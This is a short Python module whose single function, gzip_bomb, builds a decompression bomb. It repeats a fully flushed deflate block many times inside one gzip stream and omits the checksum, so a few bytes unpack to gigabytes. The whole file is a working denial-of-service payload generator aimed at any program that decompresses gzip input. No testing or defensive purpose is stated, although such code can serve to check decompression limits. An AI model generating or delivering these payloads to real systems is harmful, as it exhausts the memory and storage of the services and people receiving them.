"""Small bytes that unpack to gigabytes, made in no time."""

from __future__ import annotations

import zlib

_GZIP = zlib.MAX_WBITS | 16


def gzip_bomb(block: bytes, times: int) -> bytes:
    """Return a gzip file of a block, many times over; its checksum is missing, for nobody gets that far."""
    packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush nothing refers to what came before, so that the same bytes may follow again.
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (times - 1)
